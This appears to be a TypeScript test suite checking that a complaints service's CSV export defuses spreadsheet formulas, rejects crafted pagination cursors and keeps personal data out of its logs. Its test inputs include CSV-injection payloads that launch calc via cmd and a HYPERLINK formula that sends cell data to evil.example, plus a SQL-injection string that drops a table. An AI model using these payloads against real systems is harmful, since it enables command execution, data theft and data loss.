import type { Server } from 'node:http';
import { PassThrough } from 'node:stream';
import { openSqlDriver, type SqlDriver } from '@chp/eventstore';
import { createLogger, listen, signToken, urlOf } from '@chp/platform';
import { type PostgresHandle, postgres } from '@chp/testing';
import { createProjectionsApp } from '../src/http/index.js';
import { toCsv } from '../src/query/index.js';
import { Rebuilder } from '../src/rebuild/index.js';
import { applyBatch, liveTables, migrate } from '../src/store/index.js';
import { JWT_SECRET, NOW } from './support/app.js';
import { EventLog } from './support/events.js';

// Issue 22, section 6: formulas in the CSV export, crafted cursors, and personal data in logs.

const formulas = [
  `-1+1+cmd|' /C calc'!A0`,
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '+1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '-2',
];

describe('CSV export: OWASP CSV-injection rule', () => {
  it.each([...formulas, '\tx', '\rx'])('defuses a cell starting %j', (value) => {
    const [, row] = toCsv([{ subject: value }])
      .trim()
      .split('\r\n');
    // Every defused cell is quoted and starts with an apostrophe inside the quotes.
    expect(row?.startsWith(`"'`)).toBe(true);
  });

  it('leaves our own numbers, and ordinary text, as they are', () => {
    expect(toCsv([{ n: -3, text: 'a-b', at: '2026-03-02T09:00:00.000Z' }])).toBe(
      'n,text,at\r\n-3,a-b,2026-03-02T09:00:00.000Z\r\n',
    );
  });
});

describe('the query API against hostile input', () => {
  let database: PostgresHandle;
  let db: SqlDriver;
  let server: Server;
  let url: string;
  let token: string;
  const lines: string[] = [];
  const log = new EventLog();
  for (const subject of formulas) {
    log.complaint({
      subject,
      customer: { name: '=cmd|calc', email: 'ann@example.com', preferredLanguage: 'en' },
    });
  }

  beforeAll(async () => {
    database = await postgres();
    db = await openSqlDriver(database.url);
    await migrate(db);
    await applyBatch(db, liveTables, log.events);
    const destination = new PassThrough();
    destination.on('data', (chunk: Buffer) => lines.push(...chunk.toString().trim().split('\n')));
    const logger = createLogger({ service: 'projections', level: 'debug', destination });
    const rebuilder = new Rebuilder({ db, feed: { read: async () => ({ events: [], next: null }) } });
    const app = createProjectionsApp({ db, rebuilder, auth: { secret: JWT_SECRET }, now: () => NOW, logger });
    server = await listen(app, 0, '127.0.0.1');
    url = urlOf(server);
    token = await signToken({ secret: JWT_SECRET, subject: 'sup-1', roles: ['supervisor'] });
  });
  afterAll(async () => {
    await new Promise<void>((resolve) => {
      server.close(() => resolve());
      server.closeAllConnections();
    });
    await db.close();
    await database.close();
  });

  const get = (path: string, accept = 'application/json') =>
    fetch(`${url}${path}`, { headers: { authorization: `Bearer ${token}`, accept } });

  it('exports no cell a spreadsheet would run', async () => {
    const res = await get('/v1/complaints?limit=100', 'text/csv');
    expect(res.status).toBe(200);
    const csv = await res.text();
    for (const row of csv.trim().split('\r\n').slice(1)) {
      // A cell (at the start or after a comma) never starts a formula, quoted or not.
      expect(row).not.toMatch(/(^|,)"?[=+\-@\t\r]/);
    }
    expect(csv).toContain(`"'-1+1+cmd|' /C calc'!A0"`);
  });

  const cursor = (value: unknown) => Buffer.from(JSON.stringify(value)).toString('base64url');
  const uuid = '0b7a3c9e-2f4d-4a61-9c8e-5d3b2a1f0e9d';

  it.each([
    ['a value that is no time', { s: '-receivedAt', v: "'; DROP TABLE complaint_summary; --", id: uuid }],
    ['a time PostgreSQL refuses', { s: '-receivedAt', v: '2026-13-45 99:00:00+00', id: uuid }],
    ['an id that is no UUID', { s: '-receivedAt', v: '2026-03-02 09:00:00+00', id: '-'.repeat(36) }],
    ['a priority that is no number', { s: '-priority', v: 'high', id: uuid }],
  ])('a crafted cursor with %s → 400 naming #/cursor, and no log line carries the query', async (_n, c) => {
    const before = lines.length;
    const res = await get(
      `/v1/complaints?sort=${c.s}&customer=ann%40example.com&q=boiler+leak&cursor=${cursor(c)}`,
    );
    expect(res.status).toBe(400);
    const problem = (await res.json()) as { errors: { pointer: string }[] };
    expect(problem.errors.map((e) => e.pointer)).toEqual(['#/cursor']);
    const logged = lines.slice(before).join('\n');
    expect(logged).not.toMatch(/ann@example\.com|ann%40example|boiler|DROP TABLE/);
  });
});
